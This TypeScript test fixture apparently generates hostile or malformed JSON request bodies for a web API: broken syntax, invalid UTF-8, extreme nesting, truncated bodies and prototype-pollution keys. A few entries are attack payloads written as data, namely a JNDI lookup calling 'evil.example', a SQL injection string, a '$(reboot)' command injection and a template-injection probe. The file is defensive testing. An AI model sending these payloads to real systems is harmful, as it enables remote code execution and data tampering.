import { FRAME_ROW, PERSON } from "../good-calls.ts";
import { badJson, type HostileRequest } from "./hostile-request.ts";

const PLACE = /not valid JSON at line \d+, column \d+: |empty body/;
const BYTE = /byte \d+: not valid UTF-8/;
const DEEP = /nested/;

/** Texts that are no JSON, by what is wrong with them. */
const TEXTS: Readonly<Record<string, string>> = {
  empty: "",
  space: " ",
  "white space": " \t\r\n ",
  "trailing comma in a list": "[1,]",
  "trailing comma in an object": '{"a":1,}',
  "leading comma": "[,1]",
  "two commas": "[1,,2]",
  "comma alone": ",",
  "missing comma": "[1 2]",
  "missing colon": '{"a" 1}',
  "two colons": '{"a"::1}',
  "colon in a list": "[1:2]",
  "missing value": '{"a":}',
  "missing name": "{:1}",
  "name without quotes": "{a:1}",
  "name in single quotes": "{'a':1}",
  "name that is a number": "{1:1}",
  "name that is null": "{null:1}",
  "text in single quotes": "['a']",
  "text in backticks": "[`a`]",
  "text in typographic quotes": "[“a”]",
  "bare word": "hello",
  NaN: "[NaN]",
  Infinity: "[Infinity]",
  "-Infinity": "[-Infinity]",
  nan: "[nan]",
  inf: "[inf]",
  "1.#QNAN": "[1.#QNAN]",
  None: "[None]",
  True: "[True]",
  undefined: "[undefined]",
  NULL: "[NULL]",
  NA: "[NA]",
  "half a literal": "[tru]",
  "a literal too long": "[truee]",
  "leading zero": "[01]",
  "leading zeros": "[-00]",
  "leading plus": "[+1]",
  "leading point": "[.5]",
  "trailing point": "[5.]",
  "two points": "[1.2.3]",
  "minus alone": "[-]",
  "two minuses": "[--1]",
  "exponent without digits": "[1e]",
  "exponent with a sign alone": "[1e+]",
  "exponent with a point": "[1e1.5]",
  hexadecimal: "[0x10]",
  octal: "[0o7]",
  binary: "[0b1]",
  "digits with underscores": "[1_000]",
  "digits with a thousands mark": "[1,000.5]x",
  "a bigint's n": "[1n]",
  "digits of another script": "[١]",
  "full-width digits": "[１]",
  "line comment": "[1] // one",
  "block comment": "[1 /* one */]",
  "hash comment": "[1] # one",
  "a comment alone": "//",
  "text after the value": "[1] x",
  "two values": "[1][2]",
  "two values in lines": "[1]\n[2]",
  "closing bracket alone": "]",
  "closing brace alone": "}",
  "wrong closing": "[1}",
  "wrong closing of an object": '{"a":1]',
  "text without end": '["a',
  "text ending in a backslash": '["a\\',
  "escape that nobody knows": '["\\a"]',
  "escape of a new line": '["\\\n"]',
  "hexadecimal escape": '["\\x41"]',
  "short unicode escape": '["\\u12"]',
  "unicode escape without hexadecimal": '["\\u12G4"]',
  "unicode escape in braces": '["\\u{41}"]',
  "a tab in a text": '["a\tb"]',
  "a new line in a text": '["a\nb"]',
  "a null byte in a text": '["a\0b"]',
  "an escape character in a text": '["\x1b[31m"]',
  "null bytes": "\0\0\0",
  "a null byte behind": "[1]\0",
  "a no-break space": "[1,\u00a02]",
  "a byte order mark inside": "[\ufeff1]",
  "two byte order marks": "\ufeff\ufeff[1]",
  "a line separator": "[1,\u20282]",
  XML: "<df><x>1</x></df>",
  HTML: "<!DOCTYPE html><html></html>",
  YAML: "a: 1\nb: 2\n",
  "a form": "a=1&b=2",
  CSV: "a,b\n1,2\n",
  "a Python dictionary": "{'a': None, 'b': True}",
  R: "list(a = 1)",
  JavaScript: "({a: 1})",
  "a call": 'callback({"a":1})',
  "a guard": ")]}',\n[1]",
  "a template": "{{7*7}}",
  "a JNDI look-up": "${jndi:ldap://evil.example/a}",
  SQL: "' OR 1=1 --",
  "a shell command": "$(reboot)",
  "a JSON sequence": "\x1e[1]\n",
  "a pickle": "\x80\x04\x95".replace("\x80", ""),
  "many opening brackets": "[".repeat(60),
  "many opening braces": '{"a":'.repeat(60),
  "many closing brackets": "]".repeat(10_000),
};

/** Bytes that are no UTF-8, or text in another encoding. */
const BYTES: Readonly<Record<string, Buffer>> = {
  "UTF-16 little-endian": Buffer.from("[[1,2,3,4]]é", "utf16le"),
  "UTF-16 with its mark": Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("[1]", "utf16le")]),
  "UTF-16 big-endian with its mark": Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from("[1]", "utf16le").swap16()]),
  "Latin-1": Buffer.from('["é"]', "latin1"),
  "an overlong slash": Buffer.from([0x5b, 0x22, 0xc0, 0xaf, 0x22, 0x5d]),
  "an overlong null": Buffer.from([0x5b, 0x22, 0xc0, 0x80, 0x22, 0x5d]),
  "half of a surrogate pair": Buffer.from([0x5b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x5d]),
  "a surrogate pair in CESU-8": Buffer.from([0x5b, 0x22, 0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80, 0x22, 0x5d]),
  "a character past U+10FFFF": Buffer.from([0x5b, 0x22, 0xf4, 0x90, 0x80, 0x80, 0x22, 0x5d]),
  "five-byte characters": Buffer.from([0x5b, 0x22, 0xf8, 0x88, 0x80, 0x80, 0x80, 0x22, 0x5d]),
  "a continuation alone": Buffer.from([0x5b, 0x22, 0x80, 0x22, 0x5d]),
  "a character cut short": Buffer.from([0x5b, 0x22, 0xe2, 0x82, 0x22, 0x5d]),
  "a character cut short by the end": Buffer.from([0x5b, 0x22, 0xe2, 0x82]),
  "0xff": Buffer.from([0xff]),
};

const DEPTHS = [65, 66, 100, 1_000, 10_000, 100_000, 1_000_000];

function nestings(path: string): HostileRequest[] {
  return DEPTHS.flatMap((depth) => [
    badJson(`lists ${depth} deep`, path, () => "[".repeat(depth) + "]".repeat(depth), DEEP),
    badJson(`objects ${depth} deep`, path, () => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`, DEEP),
    badJson(`lists ${depth} deep, cut short`, path, () => "[".repeat(depth), /nested|not valid JSON at line/),
    badJson(`objects and lists ${depth} deep`, path, () => `${'[{"a":'.repeat(depth)}1${"}]".repeat(depth)}`, DEEP),
  ]);
}

/** Every beginning of a good body but the whole; all are objects, so that none is JSON. */
function beginnings(name: string, path: string, text: string): HostileRequest[] {
  const bytes = Buffer.from(text);
  return Array.from({ length: bytes.length }, (_, length) =>
    badJson(`${name} cut at byte ${length}`, path, bytes.subarray(0, length), PLACE),
  );
}

/** A good body with one byte made 0xff. */
function brokenBytes(name: string, path: string, text: string): HostileRequest[] {
  return Array.from(Buffer.from(text).keys(), (at) =>
    badJson(
      `${name} with byte ${at} broken`,
      path,
      () => Buffer.from(text).fill(0xff, at, at + 1),
      new RegExp(`byte ${at}: not valid UTF-8`),
    ),
  );
}

const PROTO_KEYS = ["__proto__", "constructor", "\\u005f_proto__", "__proto\\u005f_", "\\u0063onstructor"];

function pollutions(path: string, wrap: (member: string) => string): HostileRequest[] {
  return PROTO_KEYS.flatMap((key) =>
    ['{"polluted":true}', '{"prototype":{"polluted":true}}', "null", "[]", "1"].map((value) =>
      badJson(wrap(`${key}=${value}`), path, wrap(`"${key}":${value}`), /\/(?:__proto__|constructor)\b.*not allowed/),
    ),
  );
}

/** Everything that is wrong with JSON as a text. */
export const JSON_TEXTS: readonly HostileRequest[] = [
  ...["/person", "/frame"].flatMap((path) => [
    ...Object.entries(TEXTS).map(([name, text]) => badJson(name, path, text, PLACE)),
    ...Object.entries(BYTES).map(([name, bytes]) => badJson(name, path, bytes, BYTE)),
  ]),
  ...["/person", "/int64"].flatMap(nestings),
  ...beginnings("a person", "/person", JSON.stringify(PERSON)),
  ...beginnings("a frame", "/frame", JSON.stringify({ df: [FRAME_ROW] })),
  ...beginnings("named tensors", "/pair", JSON.stringify({ a: [[1, 2, 3, 4]], b: [[1, 2, 3, 4]] })),
  ...brokenBytes("a person", "/person", JSON.stringify(PERSON)),
  ...pollutions("/person", (member) => `{${member}}`),
  ...pollutions("/person", (member) => `{"name":"a","address":{${member}}}`),
  ...pollutions("/frame", (member) => `{"df":[{${member}}]}`),
  ...pollutions("/pair", (member) => `{"a":[[1,2,3,4]],${member}}`),
  ...pollutions("/form", (member) => `{${member}}`),
  ...pollutions("/zodded", (member) => `{"id":1,${member}}`),
];
